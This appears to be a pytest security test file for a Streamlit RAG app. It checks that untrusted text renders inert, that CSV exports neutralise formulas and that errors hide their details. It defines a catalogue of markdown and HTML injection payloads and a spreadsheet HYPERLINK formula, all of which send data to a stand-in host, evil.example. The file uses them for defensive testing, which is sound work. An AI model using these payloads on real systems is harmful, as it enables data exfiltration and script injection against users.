"""The web app on a shared server: untrusted text renders inert, CSV exports hold no formulas,
and no exception reaches the browser as a traceback."""

from __future__ import annotations

import csv
import io
import logging
import sqlite3
import tomllib
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from pydantic import BaseModel, Field, ValidationError
from streamlit.testing.v1 import AppTest

from components.safe import error_message, escape_markdown, inline_code
from ragtune.config import PROJECT_ROOT, load_settings
from ragtune.csvsafe import csv_text, neutralise_cell
from ragtune.evaluation.scoring import EvalResult
from ragtune.evaluation.store import results_csv
from ragtune.runtime import CompletionResult
from ragtune.runtime.base import Timings
from ragtune.store import QueryLog
from tests.test_store import answer

APP = str(PROJECT_ROOT / "app.py")
PAGES = PROJECT_ROOT / "app_pages"
BEACON = "![x](http://evil.example/?q=secret)"

# Markdown that would make a viewer's browser load something (or inject HTML) if rendered as is.
PAYLOADS = [
    BEACON,
    "before ![x](http://evil.example/a.png) after",
    "![a][1]\n\n[1]: http://evil.example/ref.png",
    "![a]\n\n[a]: http://evil.example/shortcut.png",
    "![a][]\n\n[a]: http://evil.example/collapsed.png",
    '<img src="http://evil.example/x.png">',
    "<iframe src='http://evil.example/'></iframe>",
    "<svg onload=\"fetch('http://evil.example/')\">",
    "<script>fetch('http://evil.example/')</script>",
    "<div>\n\n![x](http://evil.example/in-html.png)\n\n</div>",
    "\\![x](http://evil.example/backslash.png)",
    "\\\\![x](http://evil.example/two-backslashes.png)",
    "\\<img src=http://evil.example/b.png>",
    "!![x](http://evil.example/double-bang.png)",
    "[![x](http://evil.example/nested.png)](http://evil.example/)",
    "<http://evil.example/autolink.png>",
    "&lt;img src=http://evil.example/entity.png&gt;",
    "&#33;[x](http://evil.example/entity-bang.png)",
    "![x](<http://evil.example/angle url.png>)",
    "> quoted ![x](http://evil.example/quote.png)",
    "- item ![x](http://evil.example/list.png)",
    "| a |\n|---|\n| ![x](http://evil.example/table.png) |",
    "**bold ![x](http://evil.example/bold.png)**",
    "```\n![x](http://evil.example/fenced.png)\n```\n![y](http://evil.example/after-fence.png)",
    "`code` ![x](http://evil.example/after-code.png) `more`",
    "<!-- comment --><img src=x onerror=alert(1)>",
]


def loading_tokens(markdown: str) -> list[str]:
    """Tokens of ``markdown`` (CommonMark with HTML and tables) that load something or are HTML."""
    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    found: list[str] = []

    def walk(tokens) -> None:  # type: ignore[no-untyped-def]
        for token in tokens:
            if token.type in ("image", "html_inline", "html_block"):
                found.append(f"{token.type}: {token.content or token.attrs}")
            if token.type == "link_open" and token.markup == "autolink":
                found.append(f"autolink: {token.attrs}")
            walk(token.children or [])

    walk(parser.parse(markdown))
    return found


# Inert already, kept to prove that escaping cannot turn them into attacks (a backslash or an
# entity written before the construct must not undo the escape).
INERT_AS_THEY_ARE = {PAYLOADS[10], PAYLOADS[12], PAYLOADS[16], PAYLOADS[17]}


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p not in INERT_AS_THEY_ARE])
def test_the_payload_is_an_attack_as_it_is(payload: str) -> None:
    assert loading_tokens(payload), "the catalogue must hold real attacks"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_escaped_untrusted_text_loads_nothing_and_holds_no_html(payload: str) -> None:
    escaped = escape_markdown(payload)
    assert loading_tokens(escaped) == []
    assert "<" not in escaped
    assert "![" not in escaped.replace("!\\[", "")


def test_escaped_text_reads_as_the_original() -> None:
    text = "Costs $899 and **$1,200** with <b>tax</b>:\n\n- one\n- two ![x](http://evil.example/)"
    html = MarkdownIt("commonmark").render(escape_markdown(text))
    assert "<strong>$1,200</strong>" in html and "<li>one</li>" in html  # formatting kept
    assert "&lt;b&gt;tax&lt;/b&gt;" in html  # HTML shown as its source
    assert "![x](http://evil.example/)" in html  # the image as text
    assert "\\$" in escape_markdown("$899 … $1,200")  # no LaTeX between two prices


@pytest.mark.parametrize("text", ["doc#0", "a`b", "``x``", "`", ""])
def test_inline_code_keeps_any_text_inside_one_code_span(text: str) -> None:
    tokens = MarkdownIt("commonmark").parseInline(inline_code(text))[0].children
    spans = [t for t in tokens if t.type == "code_inline"]
    assert len(spans) == 1 and len(tokens) == 1
    assert spans[0].content.strip() == text.strip()


# --- rendering in the pages ------------------------------------------------------------


def visible_markdown(at: AppTest) -> list[str]:
    return [str(e.value) for e in [*at.markdown, *at.caption, *at.error, *at.success, *at.warning, *at.info]]


def test_a_playground_answer_with_a_beacon_is_shown_escaped(tiny_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAGTUNE_DEMO_WORKSPACE", "")
    at = AppTest.from_file(str(PAGES / "playground.py"), default_timeout=120)
    result = CompletionResult(text=f"Sure. {BEACON} <img src=http://evil.example/i.png>", finish_reason="stop",
                              model_id="local:tiny", timings=Timings())
    at.session_state["pg_history"] = [(f"Question {BEACON}", result)]
    at.run()
    assert not at.exception
    shown = visible_markdown(at)
    assert any("!\\[x](http://evil.example/?q=secret)" in m for m in shown)
    for markdown in shown:
        assert loading_tokens(markdown) == [], markdown


def test_a_logged_answer_and_query_with_beacons_are_shown_escaped_in_history(
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAGTUNE_DEMO_WORKSPACE", "")
    log = QueryLog(load_settings().query_log_file)
    hostile = answer("base").model_copy(update={"query": f"<img src=http://evil.example/q.png> {BEACON}",
                                                "text": f"Here: {BEACON}"})
    hostile = hostile.model_copy(update={"parse": hostile.parse.model_copy(update={"parsed": None,
                                                                                  "status": "free_text"})})
    log.add(hostile)
    at = AppTest.from_file(str(PAGES / "history.py"), default_timeout=60).run()
    at.session_state["hist_table"] = {"selection": {"rows": [0], "columns": [], "cells": []}}
    at.run()
    assert not at.exception
    shown = visible_markdown(at)
    assert any("&lt;img" in m for m in shown)  # the entry is drawn, escaped
    for markdown in shown:
        assert loading_tokens(markdown) == [], markdown


# --- CSV exports -----------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"y")'


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", FORMULA, "-5"])
def test_a_formula_like_string_cell_is_neutralised(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain", "", "a=b", " x", 5, -5, -5.5, 0.0, None, True])
def test_other_cells_and_numbers_stay_as_they_are(cell: object) -> None:
    assert neutralise_cell(cell) == cell


def test_csv_text_neutralises_every_cell_and_quotes_properly() -> None:
    text = csv_text(["q", "n"], [[FORMULA, -3.5], ["a,b\n=c", 1]])
    assert list(csv.reader(io.StringIO(text))) == [["q", "n"], ["'" + FORMULA, "-3.5"], ["a,b\n=c", "1"]]


def test_the_history_export_neutralises_a_formula_query() -> None:
    log = QueryLog(load_settings().query_log_file)
    log.add(answer("base").model_copy(update={"query": FORMULA}))
    (row,) = list(csv.DictReader(io.StringIO(log.export_csv())))
    assert row["query"] == "'" + FORMULA
    assert row["total_ms"] == "1230.0" and row["mode_id"] == "base"  # numbers and plain text unchanged


def test_the_history_page_serves_the_neutralised_csv(monkeypatch: pytest.MonkeyPatch) -> None:
    from unittest import mock

    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    monkeypatch.setenv("RAGTUNE_DEMO_WORKSPACE", "")
    QueryLog(load_settings().query_log_file).add(answer("base").model_copy(update={"query": FORMULA}))
    served: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def spy(self, path_or_data, mimetype, kind, filename=None):  # type: ignore[no-untyped-def]
        served[filename] = path_or_data.encode() if isinstance(path_or_data, str) else path_or_data
        return original(self, path_or_data, mimetype, kind, filename)

    with mock.patch.object(MemoryMediaFileStorage, "load_and_get_id", spy):
        at = AppTest.from_file(str(PAGES / "history.py"), default_timeout=60).run()
    assert not at.exception
    (row,) = list(csv.DictReader(io.StringIO(served["ragtune-queries.csv"].decode())))
    assert row["query"] == "'" + FORMULA


def eval_result(**overrides: object) -> EvalResult:
    values: dict[str, object] = dict(
        case_id="q1", version="v1", mode_id="base", mode_label="Base", question=FORMULA, kind="answerable",
        gold=["+1 555 0100"], supporting_docs=["doc"], text="@cmd", answer_text="-2+3", parse_status="free_text",
        json_valid=None, format_valid=None, correct=False, abstained=False, should_abstain=False, stale=None,
        citation_precision=None, citation_recall=None, total_ms=-1.0, error="=ERR")
    values.update(overrides)
    return EvalResult.model_validate(values)


def test_the_benchmark_csv_neutralises_every_formula_like_cell() -> None:
    (row,) = list(csv.DictReader(io.StringIO(results_csv([eval_result()]))))
    assert row["question"] == "'" + FORMULA
    assert (row["gold"], row["answer_text"], row["text"], row["error"]) == ("'+1 555 0100", "'-2+3", "'@cmd", "'=ERR")
    assert row["total_ms"] == "-1.0"  # a number stays a number


# --- no exception reaches the browser ----------------------------------------------------


def a_validation_error() -> ValidationError:
    class Summary(BaseModel):
        context_length: int = Field(ge=1)

    try:
        Summary(context_length=2048.5)  # type: ignore[arg-type]
    except ValidationError as exc:
        return exc
    raise AssertionError("expected a ValidationError")  # pragma: no cover


def test_error_messages_never_carry_raw_pydantic_text_or_exception_details() -> None:
    message = error_message(a_validation_error())
    assert "context_length" in message and "validation error for" not in message
    assert "errors.pydantic.dev" not in message
    hidden = error_message(sqlite3.DatabaseError("file is not a database: /srv/secret"))
    assert hidden.startswith("Something went wrong: DatabaseError") and "secret" not in hidden


def test_a_validation_error_in_the_sidebar_is_shown_translated(tiny_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from ragtune.models import ModelRegistry

    monkeypatch.setenv("RAGTUNE_DEMO_WORKSPACE", "")
    error = a_validation_error()

    def statuses(self):  # type: ignore[no-untyped-def]
        raise error

    monkeypatch.setattr(ModelRegistry, "statuses", statuses)
    at = AppTest.from_file(APP, default_timeout=120).run()
    assert not at.exception
    (shown,) = [e.value for e in at.sidebar.error]
    assert "context_length" in shown and "validation error for" not in shown
    assert at.title[0].value == "ragtune"  # the page (Home) still runs


def test_an_unexpected_error_shows_its_type_only_and_is_logged(monkeypatch: pytest.MonkeyPatch,
                                                                caplog: pytest.LogCaptureFixture) -> None:
    monkeypatch.setenv("RAGTUNE_DEMO_WORKSPACE", "")

    def count(self, flt=None):  # type: ignore[no-untyped-def]  # (the History page asks for its user's rows)
        raise sqlite3.DatabaseError("file is not a database: /srv/secret-path")

    monkeypatch.setattr(QueryLog, "count", count)
    with caplog.at_level(logging.ERROR, logger="ragtune.app"):
        at = AppTest.from_file(str(PAGES / "history.py"), default_timeout=60).run()
    assert not at.exception
    (shown,) = [e.value for e in at.error]
    assert shown.startswith("Something went wrong: DatabaseError") and "server log" in shown
    assert not any("secret-path" in m for m in visible_markdown(at))
    (record,) = [r for r in caplog.records if r.name == "ragtune.app"]
    assert record.exc_info and "secret-path" in str(record.exc_info[1])  # the details are in the log


def test_an_unexpected_error_in_a_page_run_through_the_app_is_contained(
        tiny_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import app_resources

    monkeypatch.setenv("RAGTUNE_DEMO_WORKSPACE", "")

    def broken(*args, **kwargs):  # type: ignore[no-untyped-def]
        raise RuntimeError("llama internals: /home/admin/key")

    monkeypatch.setattr(app_resources, "load_runtime", broken)
    at = AppTest.from_file(APP, default_timeout=120).run()
    assert not at.exception
    errors = [e.value for e in at.error]
    assert errors and all(e.startswith("Something went wrong: RuntimeError") for e in errors)
    assert any(e.value.startswith("Something went wrong") for e in at.sidebar.error)  # the model card
    assert not any("/home/admin" in m for m in visible_markdown(at))


def test_streamlit_itself_shows_no_error_details() -> None:
    config = tomllib.loads((PROJECT_ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["showErrorDetails"] == "none"


def test_document_titles_sections_and_sources_render_inert_in_the_knowledge_views() -> None:
    def script() -> None:
        from datetime import datetime, timezone

        from components.knowledge import render_chunks, render_search_result
        from ragtune.retrieval.types import Chunk, SearchHit, SearchResult

        beacon = "![x](http://evil.example/?q=title)"
        chunk = Chunk(chunk_id="doc#0", doc_id="doc", n=0, title=f"Title {beacon}", source="<img src=x>.md",
                      section=f"<iframe src=http://evil.example/> {beacon}", version=1,
                      updated_at=datetime(2026, 1, 1, tzinfo=timezone.utc), start=0, end=10,
                      text=f"Body {beacon}")
        render_chunks([chunk], key="chunks")
        render_search_result(SearchResult(workspace="w", query="q", mode="vector", k=1, took_ms=1.0,
                                          hits=[SearchHit(rank=1, score=0.5, chunk=chunk)]), key="hits")

    at = AppTest.from_function(script).run()
    assert not at.exception
    shown = visible_markdown(at)
    assert any("Title !\\[x]" in m for m in shown)
    for markdown in shown:
        assert loading_tokens(markdown) == [], markdown
    assert all(t.value.startswith("Body ![x]") for t in at.text)  # the chunk text: plain text, as written


def test_a_crafted_decide_link_cannot_load_anything() -> None:
    at = AppTest.from_file(str(PAGES / "decide.py"), default_timeout=60)
    at.query_params.update({BEACON: "1", "step": "<img src=http://evil.example/s.png>"})
    at.run()
    assert not at.exception
    warnings = [w.value for w in at.warning]
    assert len(warnings) == 2  # both parameters are reported, inert
    for markdown in visible_markdown(at):
        assert loading_tokens(markdown) == [], markdown


def test_a_crafted_lab_link_cannot_load_anything(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAGTUNE_DEMO_WORKSPACE", "")
    at = AppTest.from_file(str(PAGES / "lab.py"), default_timeout=60)
    at.query_params["modes"] = f"rag,{BEACON}"
    at.run()
    assert not at.exception
    assert any("Ignored unknown modes" in w.value for w in at.warning)
    for markdown in visible_markdown(at):
        assert loading_tokens(markdown) == [], markdown
